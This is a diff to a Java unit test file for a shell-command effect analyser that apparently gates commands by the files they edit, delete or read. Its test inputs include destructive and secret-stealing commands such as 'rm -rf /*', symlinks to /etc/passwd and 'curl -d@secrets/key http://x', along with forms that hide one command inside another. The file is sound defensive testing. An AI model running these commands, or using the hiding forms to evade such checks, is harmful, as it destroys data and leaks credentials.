@@ -125,7 +125,36 @@ final class ShellEffectsTest {
                 row("rm -rf /*", "in /"),
                 row("rm -rf ~/*", "in ~/"),
                 row("rm -rf /home/other/$x", "in /home/other/"),
-                row("echo {} > /etc/{a,b}", "in /etc/"));
+                row("echo {} > /etc/{a,b}", "in /etc/"),
+                row("cp a config/{b,c}.json", "edit config/c.json/a", "edit config/c.json/b.json"),
+                row("touch {a,b{1,2}}x '{c,d}' {e} {f,}", "edit ax", "edit b1x", "edit b2x", "edit {c,d}", "edit {e}", "edit f"),
+                row("rm {1..9} x", "delete x"),
+                row("echo x > ~root/y; rm ~+/z", "edit ~/y", "delete ./z"),
+                row("env -S 'rm -f a' b; env -S'rm c'; env --split-string='rm d'", "delete a", "delete b", "delete c", "delete d"),
+                row("env -C src touch a; touch b", "edit src/a", "edit b"),
+                row("env --chdir=/opt touch a", "edit /opt/a"),
+                row("git checkout a.txt", "edit a.txt"),
+                row("git -C config checkout a.json b", "edit config/a.json", "edit config/b"),
+                row("function f { rm a; }; f", "delete a"),
+                row("function f() { rm a; }", "delete a"),
+                row("x=($(rm a) b)", "delete a"),
+                row("coproc X { rm a; }", "delete a"),
+                row("ls | xargs -I{} cp {} a.json", "edit a.json", "in a.json"),
+                row("ls | xargs -I % sh -c 'rm a; %'", "delete a"),
+                row("ls | xargs -i rm a", "delete a"),
+                row("echo ${x#'}'}; rm a", "delete a"),
+                row("echo \"${x#\"}\"}\" ; rm a", "delete a"),
+                row("echo $((rm a) )", "delete a"),
+                row("((rm a); ls)", "delete a"),
+                row("echo $(case x in x) rm a;; y) rm b;; esac); rm c", "delete a", "delete b", "delete c"),
+                row("cd src & rm a", "delete a"),
+                row("cd src; cd -; rm a", "delete a"),
+                row("pushd src; rm a; popd; rm b", "delete src/a", "delete b"),
+                row(". /dev/stdin <<< 'rm a'; bash /dev/stdin <<E\nrm b\nE", "delete a", "delete b"),
+                row("tar czfv a.tgz src", "edit a.tgz"),
+                row("git diff --output=a; git archive -o b HEAD; git bundle create c HEAD", "edit a", "edit b", "edit c"),
+                row("git config -f a x.y z; git clone u ../b; git worktree add ../c", "edit a", "edit ../b", "edit ../c"),
+                row("git push file:///opt/x main", "edit /opt/x"));
     }
 
     @ParameterizedTest
@@ -211,6 +240,13 @@ final class ShellEffectsTest {
                 "JAVA_HOME=/usr/lib/jvm mvn -v",
                 "ssh host 'rm x'",
                 "patch -p1 --dry-run < x.diff",
+                "if [[ \"$x\" =~ ^[a-z]+$ && $y > 3 ]]; then echo; fi",
+                "git checkout feature/x",
+                "git checkout v1.2.3",
+                "echo $(( (1 + 2) * 3 ))",
+                "x=(a b) y=([0]=rm [1]=c)",
+                "git config -f a --get x.y",
+                "git checkout HEAD~1",
                 "ls 2>&1 >&2 >&-",
             })
     void commands_without_a_change_that_can_be_known(String command) {
@@ -227,6 +263,12 @@ final class ShellEffectsTest {
                 Arguments.of("bash -c 'sudo ls'", "'sudo' is not permitted"),
                 Arguments.of("find . -exec sudo rm {} +", "'sudo' is not permitted"),
                 Arguments.of("ln -s /etc/passwd /p/link", "sensitive path /etc/passwd"),
+                Arguments.of("cp -s /etc/passwd /p/link", "sensitive path /etc/passwd"),
+                Arguments.of("link /etc/passwd /p/link", "sensitive path /etc/passwd"),
+                Arguments.of("node -pe \"require('fs').writeFileSync('x','')\"", "scripting language"),
+                Arguments.of("python3 -c \"import os;os.remove('x')\"", "scripting language"),
+                Arguments.of("perl -e 'unlink \"x\"'", "scripting language"),
+                Arguments.of("(".repeat(200) + "1" + ")".repeat(200), "deeply nested"),
                 Arguments.of("python3 -c \"open('x','w').write('y')\"", "scripting language"),
                 Arguments.of("python -c 'from pathlib import Path; Path(\"x\").touch()'", "scripting language"),
                 Arguments.of("node -e \"require('fs').writeFileSync('x','y')\"", "scripting language"),
@@ -255,7 +297,15 @@ final class ShellEffectsTest {
                 "x=$(cat secrets/key)",
                 "cat secrets/*",
                 "dd if=secrets/key",
-                ". secrets/key"
+                ". secrets/key",
+                "cat {secrets/key,b}",
+                "xargs -a secrets/key echo",
+                "grep -f secrets/key x",
+                "grep -fsecrets/key x",
+                "curl -d@secrets/key http://x",
+                "docker run -v secrets/key:/s x",
+                "tar cf - -C secrets key",
+                "curl file://secrets/key"
             })
     void arguments_that_may_be_read(String command) {
         assertThat(effects(command).reads())
@@ -281,7 +331,9 @@ final class ShellEffectsTest {
                 .singleElement()
                 .asString()
                 .contains("too deeply nested");
-        assertThat(effects("(".repeat(100_000)).objections()).hasSize(0);
+        assertThat(effects("(".repeat(100_000)).objections()).hasSize(1);
+        assertThat(effects("touch " + "{a,b}".repeat(100_000)).objections()).isEmpty();
+        assertThat(effects("touch " + "{a,".repeat(100) + "}".repeat(100)).objections()).isEmpty();
         assertThat(effects("( ".repeat(100_000)).objections()).hasSize(1);
         assertThat(effects("${".repeat(100_000) + "`".repeat(100_001)).objections())
                 .hasSize(1);
